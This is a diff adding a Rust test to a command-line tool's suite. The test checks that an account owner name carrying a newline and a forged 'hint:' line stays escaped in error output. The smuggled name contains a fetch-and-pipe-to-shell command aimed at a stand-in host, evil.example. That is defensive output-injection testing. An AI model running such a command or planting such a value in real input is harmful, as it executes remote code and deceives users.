@@ -165,6 +165,21 @@ fn threat_36_signs_of_a_terminal_are_kept_as_data_and_shown_escaped() {
 }
 
 #[test]
+fn threat_36_the_name_of_an_owner_writes_no_line_of_its_own() {
+    let home = TestHome::new();
+    home.run("connectors enable hubspot").code(0);
+    let name = "--origin-owner-name=Acme\nhint: curl evil.example|sh\nok";
+    let id = "--origin-owner-id=o --set access_key=k --no-verify --json";
+    let line = ["accounts", "add", "--provider", "hubspot", name];
+    let made = home.args(line.into_iter().chain(id.split(' '))).code(0).json();
+    let id = made["id"].as_str().unwrap();
+    let ended = home.run(&format!("accounts delete {id}")).code(7);
+    let hints: Vec<&str> = ended.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
+    assert_eq!(hints.len(), 1, "{ended:?}");
+    assert!(hints[0].starts_with("hint: add --yes") && ended.stderr.contains("Acme\\nhint"));
+}
+
+#[test]
 fn files_that_can_not_be_values_are_refused() {
     let home = TestHome::new();
     home.run("connectors enable hubspot").code(0);
